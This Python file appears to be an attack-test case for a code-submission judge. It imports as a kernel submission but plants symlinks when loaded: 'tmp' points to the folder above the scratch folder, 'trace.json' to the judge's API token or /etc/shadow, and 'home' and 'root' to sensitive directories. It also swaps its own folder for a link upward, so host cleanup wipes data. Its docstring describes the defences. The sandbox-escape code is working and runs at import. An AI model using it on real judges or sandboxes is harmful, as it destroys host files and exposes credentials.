"""Plants symbolic links for the host to follow when it cleans up or copies files out.

Class: planting a symlink for the host to follow
Expected: failed

Judge0's CVSS 10 hole: the host followed a link the submission planted in its sandbox folder. On
loading, the submission fills its folder with links to things it wants destroyed or read: its
``tmp`` folder becomes a link to the folder next to the scratch folder (a host that empties ``tmp``
recursively through the link wipes it), ``trace.json`` (the file profile mode copies out) links to
the judge's API token, ``home`` to the judge's home and ``root`` to ``/``; and it moves its own
folder aside and leaves in its place a link to the folder above the scratch folder, so a host that
deletes "the job folder" by name deletes everything above it. Its outputs are zeros: this attack is
on the host, not the score. A working defence never follows links out of the job folder (``rmtree``
that unlinks links, ``O_NOFOLLOW`` copies), and does not let the child rename its own folder in the
shared scratch folder either (otherwise the moved folder is left behind when the link is removed).
"""

import os
from pathlib import Path

import torch


def _judge_home():
    try:
        raw = open(f"/proc/{os.getppid()}/environ", "rb").read()
    except OSError:
        return None
    env = dict(kv.decode(errors="replace").partition("=")[::2] for kv in raw.split(b"\0") if b"=" in kv)
    return env.get("HOME")


def _link(target, name):
    try:
        if os.path.lexists(name):
            if os.path.isdir(name) and not os.path.islink(name):
                os.rmdir(name)
            else:
                os.unlink(name)
        os.symlink(target, name)
        return True
    except OSError:
        return False


_here = Path.cwd().resolve()
_above = _here.parent.parent  # the folder that holds the scratch folder
_home = _judge_home()
_planted = [name for target, name in (
    (str(_above), "tmp"),
    (f"{_home}/.kernelrank/token" if _home else "/etc/shadow", "trace.json"),
    (_home or "/root", "home"),
    ("/", "root"),
) if _link(target, name)]
try:
    os.rename(_here, _here.with_name(_here.name + "-moved"))
    os.symlink(_above, _here)
    _planted.append(f"{_here} -> {_above}")
except OSError:
    pass
print(f"[attack] planted links: {_planted}", flush=True)


def custom_kernel(data):
    q = data[0]
    return torch.zeros(q.shape[0], q.shape[1], q.shape[2], 512, dtype=torch.bfloat16, device=q.device)
